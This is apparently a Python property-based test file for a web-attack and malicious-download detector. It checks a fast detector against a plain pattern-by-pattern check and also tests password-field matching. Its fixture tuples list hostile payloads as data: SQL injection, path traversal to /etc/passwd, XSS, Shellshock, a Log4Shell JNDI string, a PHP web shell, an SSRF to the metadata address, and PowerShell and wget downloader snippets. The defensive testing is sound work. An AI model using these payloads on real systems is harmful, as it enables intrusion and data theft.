"""What is looked for before the costlier patterns are tried must not change what is found."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from app.detect import http_download, web_patterns
from app.detect.form_guessing import PASSWORD, password_in
from app.detect.web_patterns import _ALSO_ENCODED, _COMMENT, MOST_BYTES, PATTERNS, attacks, decoded

TEXTS = (
    b"/a?q=1' or '1'='1", b"/a?q=1%27%20oR%20%271%27%3D%271", b"/?q=un/**/ion/**/select", b"/%2e%2e%2f%2e%2e%2fetc/passwd",
    b"<script>alert(1)</script>", b"/icons/.%2e/%2e%2e/etc/passwd", b"() { :;}; /bin/bash -c id", b"${jndi:ldap://x/a}",
    b"cmd=cat /etc/passwd;", b"/shell.php?cmd=id", b"a[$ne]=1", b"{{7*7}}", b"<?php system($_GET[0]);", b"/.git/config", b"/index.html",
    b"x: 1\r\nset-cookie: a", b"\xac\xed\x00\x05", b"*)(uid=*", b"/?x=http://169.254.169.254/", b"User-Agent: Mozilla/5.0\r\n",
)  # fmt: skip
SCRIPTS = (
    b"CreateObject(\"WScript.Shell\")", b"x.DownloadString ('http://", b"New ActiveXObject('ADODB.Stream')", b"cd /tmp || cd /var", b"IEX (",
    b"FromBase64String(", b"powershell -EncodedCommand AAAA", b"#!/bin/sh\n", b"wget http://10.0.0.1/a; chmod 777 a", b"<html>plain</html>",
)  # fmt: skip
PIECES = st.lists(st.sampled_from([*TEXTS, *SCRIPTS]) | st.binary(max_size=12), min_size=1, max_size=3).map(b"".join)


def every_pattern(target: bytes, body: bytes, headers: bytes) -> list[tuple[str, str, str]]:
    """The same by each pattern on each text, in the plainest way."""
    plain, raw = decoded(target), target[:MOST_BYTES].lower()
    uncommented = _COMMENT.sub(b" ", plain)
    head = decoded(headers) if b"%" in headers else headers[:MOST_BYTES].lower()
    found: list[tuple[str, str, str]] = []
    for name, severity, places, pattern in PATTERNS:
        texts = {"u": [plain, uncommented], "b": [decoded(body)] * bool(body), "h": [head] * bool(headers)}
        if name in _ALSO_ENCODED:
            texts["u"].append(raw)
        words = {"u": "the address", "b": "the body", "h": "a header field"}
        where = next((words[place] for place in places if any(map(pattern.search, texts[place]))), None)
        if where is not None:
            found.append((name, severity, where))
    return found


@given(PIECES, st.just(b"") | PIECES, st.just(b"") | PIECES)
@settings(max_examples=300, deadline=None)
def test_attacks_are_those_of_every_pattern(target: bytes, body: bytes, headers: bytes) -> None:
    assert attacks(target, body, headers) == every_pattern(target, body, headers)


def test_attacks_of_each_text_alone() -> None:
    for text in TEXTS:
        for parts in ((text, b"", b""), (b"/", text, b""), (b"/", b"", text)):
            assert attacks(*parts) == every_pattern(*parts), parts
    assert sum(bool(attacks(text, b"", b"")) for text in TEXTS) >= 14


def test_what_is_remembered_and_what_is_too_long_to_be_are_judged_alike() -> None:
    long = b"/" + b"a" * web_patterns._REMEMBERED_BYTES + b"?q=1' or '1'='1"
    assert [name for name, _, _ in attacks(long, b"", b"")] == ["SQL injection"]


@given(PIECES)
@settings(max_examples=300, deadline=None)
def test_scripts_are_those_of_the_patterns(body: bytes) -> None:
    script = http_download._SCRIPT_BEGINS.match(body) or http_download._SCRIPT.search(body)
    assert (http_download._kind(body) == "script") == bool(script) or http_download._kind(body) in (
        "program",
        "Java program",
    )


def test_each_script_is_found() -> None:
    assert [http_download._kind(text) for text in SCRIPTS].count("script") >= 8
    assert http_download._kind(b"<html>plain</html>") == ""


@given(st.lists(st.sampled_from([b"Password=", b"&pwd:", b"user", b'"kennWort" : "x', b"senha", b"PSW=1", b"a=b&", b"new_passwd]=1"]) | st.binary(max_size=6), max_size=5))  # fmt: skip
@settings(max_examples=300, deadline=None)
def test_passwords_are_those_of_the_pattern(pieces: list[bytes]) -> None:
    text = b"".join(pieces)
    found, expected = password_in(text), PASSWORD.search(text)
    assert (found and found.span(1)) == (expected and expected.span(1))
